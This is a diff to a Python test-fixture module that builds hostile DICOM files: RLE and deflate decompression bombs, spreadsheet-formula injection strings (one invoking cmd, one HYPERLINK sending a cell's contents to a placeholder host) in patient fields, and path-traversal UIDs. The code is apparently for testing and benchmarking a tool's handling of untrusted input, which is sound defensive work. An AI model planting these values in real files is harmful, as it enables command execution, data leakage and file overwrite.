@@ -9,21 +9,39 @@ Every builder writes a small file and returns its path; none holds the claimed (
 - :func:`pixel_claim`: uncompressed pixel data of a few bytes under a claim such as 65535 x 65535.
 - :func:`write_deflate_bomb`: a deflated data set whose pixel data inflates to ``inflated_mb`` MB.
 - :func:`patch_j2k_size`: a copy of a JPEG 2000 DICOM whose SIZ marker claims another size.
+- :func:`rle_bomb`: a few hundred bytes of RLE claiming 16384 x 16384 pixels.
+- :func:`hostile_text`: a copy of a good DICOM whose patient and study text are spreadsheet formulas
+  and whose UIDs are path traversals (``../../..``), pixels untouched.
+- :func:`hostile_folder`: every hostile file above in one folder (the CLI's end-to-end test and
+  ``benchmarks/bench_untrusted.py``).
 """
 
 from __future__ import annotations
 
+import shutil
 import struct
+import warnings
 import zlib
 from pathlib import Path
 
+from pydicom import dcmread
 from pydicom.dataset import Dataset, FileMetaDataset
 from pydicom.encaps import encapsulate
 from pydicom.filewriter import write_file_meta_info
 from pydicom.uid import UID, DeflatedExplicitVRLittleEndian, ExplicitVRLittleEndian, RLELossless, generate_uid
 
 __all__ = ["mg_dataset", "rle_frame", "write_rle", "panic_rle", "good_rle", "pixel_claim", "write_deflate_bomb",
-           "patch_j2k_size"]
+           "patch_j2k_size", "rle_bomb", "hostile_text", "hostile_folder", "FORMULAS", "TRAVERSAL"]
+
+#: Text a spreadsheet would run (OWASP's examples), one per hostile text field.
+FORMULAS = {
+    "PatientID": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
+    "PatientName": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "StudyDescription": "+1+cmd|' /C calc'!A0",
+    "SeriesDescription": "-2+3",
+}
+#: A "UID" that walks out of any folder it is joined to.
+TRAVERSAL = "../../../../escaped"
 
 MG = UID("1.2.840.10008.5.1.4.1.1.1.2")  # Digital Mammography X-Ray Image Storage - For Presentation
 
@@ -131,3 +149,40 @@ def patch_j2k_size(source: Path, out: Path, rows: int, cols: int) -> Path:
     data[at + 8 : at + 16] = struct.pack(">II", cols + xo, rows + yo)
     out.write_bytes(bytes(data))
     return out
+
+
+def rle_bomb(path: Path, rows: int = 16384, cols: int = 16384) -> Path:
+    """A small RLE frame under a claim of ``rows`` x ``cols`` 16-bit pixels (3.8 GB once decoded at 16384^2)."""
+    run = b"\x81\x00"
+    return write_rle(path, rows, cols, 16, rle_frame([run * 64, run * 64]))
+
+
+def hostile_text(template: Path, path: Path) -> Path:
+    """A copy of the good DICOM ``template`` with formulas in its text (:data:`FORMULAS`) and path
+    traversals as its SOP, study and series instance UIDs (pydicom's warnings about them are silenced:
+    the point is a file that breaks the rules)."""
+    shutil.copyfile(template, path)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        ds = dcmread(path)
+        for keyword, text in FORMULAS.items():
+            setattr(ds, keyword, text)
+        ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = UID(TRAVERSAL + "/sop")
+        ds.StudyInstanceUID = UID("=1+2/" + TRAVERSAL)
+        ds.SeriesInstanceUID = UID(TRAVERSAL + "/series")
+        ds.save_as(path)
+    return path
+
+
+def hostile_folder(folder: Path, template: Path, deflate_mb: int = 96) -> dict[str, Path]:
+    """Every kind of hostile file in ``folder`` (name -> path): a panicking RLE frame, an RLE bomb, a
+    deflate bomb of ``deflate_mb`` MB inflated, a 65535 x 65535 claim, formulas and path traversals in
+    the text and UIDs of a copy of the good ``template``. All but the last are bad files."""
+    folder.mkdir(parents=True, exist_ok=True)
+    return {
+        "panic": panic_rle(folder / "panic-rle.dcm"),
+        "rle_bomb": rle_bomb(folder / "rle-bomb.dcm"),
+        "deflate_bomb": write_deflate_bomb(folder / "deflate-bomb.dcm", deflate_mb),
+        "claim": pixel_claim(folder / "claim-65535.dcm", 65535, 65535),
+        "formulas": hostile_text(template, folder / "formulas.dcm"),
+    }
